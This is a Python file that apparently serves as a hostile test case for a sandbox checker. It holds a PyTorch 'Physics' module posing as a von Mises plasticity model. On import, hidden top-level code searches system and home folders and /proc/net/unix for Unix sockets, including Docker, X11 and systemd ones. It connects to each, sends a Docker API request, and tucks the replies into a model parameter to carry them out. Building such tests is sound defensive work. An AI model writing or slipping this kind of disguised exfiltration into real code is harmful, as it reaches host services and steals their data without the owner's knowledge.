"""Find and connect to every Unix socket: path-named ones on disk, abstract ones from /proc.

Attack: walk /tmp, /run, /var/run, /var/lib, /home, /root and the working folder (bounded:
50 000 entries, 10 s) for sockets, read abstract names (``@...``) from /proc/net/unix, try a
few well-known ones (Docker, X11, Ray, systemd), then connect to each and send an HTTP request
(the Docker API answers it) plus a marker line. Replies are smuggled out in a parameter.
The issue found path-named host sockets accepting connections from the worker.
Target: host services reachable through Unix sockets; data exfiltration.

expected: honest
category: process
static: rejected
check: listeners at /tmp/sga-hostile.sock, /run/sga-hostile.sock, ~/.sga-hostile.sock and the
  abstract socket @sga-hostile, set up by the test, receive no connection
"""

import os
import socket
import stat
import time

import torch
import torch.nn as nn

ROOTS = [
    "/tmp",
    "/run",
    "/var/run",
    "/var/lib",
    "/home",
    "/root",
    os.getcwd(),
    os.path.expanduser("~"),
]
WELL_KNOWN = [
    "/var/run/docker.sock",
    "/run/docker.sock",
    "/tmp/.X11-unix/X0",
    "/run/systemd/private",
    "/tmp/ray/session_latest/sockets/raylet",
]
ABSTRACT = ["sga-hostile", "/tmp/.X11-unix/X0"]
REQUEST = b"GET /containers/json HTTP/1.0\r\nHost: x\r\n\r\nSGA-HOSTILE-CONNECT\n"


def _sockets():
    found, seen, started = list(WELL_KNOWN), 0, time.monotonic()
    for root in ROOTS:
        for folder, _, names in os.walk(root):
            for name in names:
                seen += 1
                if seen > 50_000 or time.monotonic() - started > 10:
                    return found
                path = os.path.join(folder, name)
                try:
                    if stat.S_ISSOCK(os.lstat(path).st_mode):
                        found.append(path)
                except OSError:
                    pass
    return found


def _abstract():
    names = list(ABSTRACT)
    try:
        with open("/proc/net/unix") as handle:
            names += [line.split()[-1][1:] for line in handle if line.split()[-1][:1] == "@"]
    except (OSError, IndexError):
        pass
    return ["\0" + name for name in names]


_replies = []
for _address in _sockets() + _abstract():
    try:
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as _client:
            _client.settimeout(0.5)
            _client.connect(_address)
            _client.sendall(REQUEST)
            _replies.append(_client.recv(512))
    except OSError:
        pass
_LOOT = list(b"".join(_replies)[:4096]) or [0]


class Physics(nn.Module):
    def __init__(self, yield_strain: float = 0.02):
        """Von Mises return mapping on the Hencky strain, with a grain-size table."""
        super().__init__()
        self.yield_strain = nn.Parameter(torch.tensor(yield_strain))
        self.grain_table = nn.Parameter(torch.tensor(_LOOT, dtype=torch.float32))

    def forward(self, F: torch.Tensor) -> torch.Tensor:
        U, sigma, Vh = torch.linalg.svd(F)
        eps = torch.log(sigma.clamp(min=0.05))
        dev = eps - eps.mean(-1, keepdim=True)
        norm = dev.norm(dim=-1, keepdim=True).clamp(min=1e-12)
        eps = eps - torch.relu(1 - self.yield_strain / norm) * dev
        return (1 + 0 * self.grain_table.sum()) * (U @ torch.diag_embed(torch.exp(eps)) @ Vh)
